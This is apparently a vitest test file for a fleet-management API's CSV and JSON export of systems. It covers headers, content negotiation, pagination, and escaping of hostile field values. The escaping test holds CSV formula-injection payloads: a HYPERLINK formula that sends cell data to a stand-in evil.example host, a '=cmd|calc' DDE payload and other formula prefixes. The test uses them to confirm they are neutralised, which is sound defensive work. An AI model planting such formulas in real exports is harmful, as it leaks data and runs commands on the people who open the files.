import { sql } from 'kysely'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { STORE_PATH } from '../../support/messages.ts'
import { registerTestAgent } from '../../support/test-agent.ts'
import { startTestServer, type TestServer } from '../../support/test-server.ts'

const NOW = Date.parse('2026-11-28T23:59:59Z')

let server: TestServer

beforeAll(async () => {
  server = await startTestServer({ clock: () => NOW })
})
afterAll(() => server.stop())

async function read(query: string, headers: Record<string, string> = {}) {
  const response = await fetch(`${server.url}/api/v1/systems${query}`, {
    headers: { authorization: `Bearer ${server.adminToken}`, ...headers },
  })
  const text = await response.text()
  return { status: response.status, headers: response.headers, text, lines: text.split('\r\n') }
}

test('a fleet of none is a header', async () => {
  const { lines } = await read('?format=csv')
  expect(lines).toEqual([
    expect.stringMatching(/^hostname,environment,registration,.*,nixos_version,flags$/),
    '',
  ])
})

test('a file has the day in its name, and the words of the API', async () => {
  const agent = await registerTestAgent(server, { hostname: 'web1', environment: 'production' })
  await agent.report({ spool_failed: true }, { createdSecs: NOW / 1000 })
  const { headers, lines } = await read('?format=csv')
  expect(headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
  expect(headers.get('content-disposition')).toBe('attachment; filename="systems-2026-11-28.csv"')
  expect(headers.get('cache-control')).toBe('private, no-cache')
  expect(lines[1]).toMatch(/^web1,production,active,false,online,20[^,]+Z,unassigned,20/)
  expect(lines[1]).toContain(`,${STORE_PATH},`)
  expect(lines[1]).toMatch(/,[^,]+,.*spool_failed/)
})

test('who accepts CSV gets it without asking, who accepts anything gets JSON', async () => {
  for (const accept of ['text/csv', 'Text/CSV, application/json;q=0.5'])
    expect((await read('', { accept })).headers.get('content-type')).toMatch(/^text\/csv/)
  for (const accept of ['*/*', 'application/json, text/csv', 'text/csvx'])
    expect((await read('', { accept })).headers.get('content-type')).toMatch(/^application\/json/)
  const { headers } = await read('?format=json', { accept: 'text/csv' })
  expect([headers.get('content-type'), headers.get('vary')]).toEqual([
    'application/json; charset=utf-8',
    'accept',
  ])
})

test('what a name or a fact holds is neither a formula nor a line nor a column', async () => {
  const { db } = server.database
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    'two\r\nlines',
    'a "quoted", b',
  ]
  for (const [index, environment] of hostile.entries()) {
    await server.api('POST', '/systems', { body: { hostname: `hostile${index}` } })
    await sql`update systems set environment = ${environment} where hostname = ${`hostile${index}`}`.execute(
      db,
    )
  }
  const agent = await registerTestAgent(server, { hostname: 'hostile-fact' })
  agent.state.fingerprint.software.nixos_version = '=cmd|calc'
  await agent.report({}, { createdSecs: NOW / 1000 })
  const { text } = await read('?format=csv&text=hostile')
  expect(text).toContain(`hostile0,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",keyless`)
  for (const cell of [
    `'+1+1`,
    `'-2+3`,
    `'@SUM(1)`,
    `'\t=1`,
    `"'\r=1"`,
    `"two\r\nlines"`,
    `"a ""quoted"", b"`,
  ])
    expect(text).toContain(`,${cell},`)
  expect(text).toContain(`,'=cmd|calc,`)
  expect(text).not.toMatch(/(^|,|\r\n)"?[=+@-]/)
})

const names = (lines: string[]) => lines.slice(1, -1).map((line) => line.split(',')[0])

test('has every row that passes the filter once, however many pages they are', async () => {
  await sql`with added as (insert into systems (hostname, environment)
      select 'bulk' || n, case when n % 2 = 0 then 'even' else 'odd' end from generate_series(1, 2500) n returning id),
    c as (insert into contacts (system_id) select id from added)
    insert into drift (system_id, state, since, standing, standing_since)
    select id, 'no_report', now(), 'no_report', now() from added`.execute(server.database.db)
  const all = names((await read('?format=csv&text=bulk&limit=3&sort=since')).lines)
  expect(all).toHaveLength(2500)
  expect(new Set(all).size).toBe(2500)
  expect(names((await read('?format=csv&environment=even')).lines)).toHaveLength(1250)
})

test('another format is refused', async () => {
  expect((await read('?format=xlsx')).status).toBe(422)
})
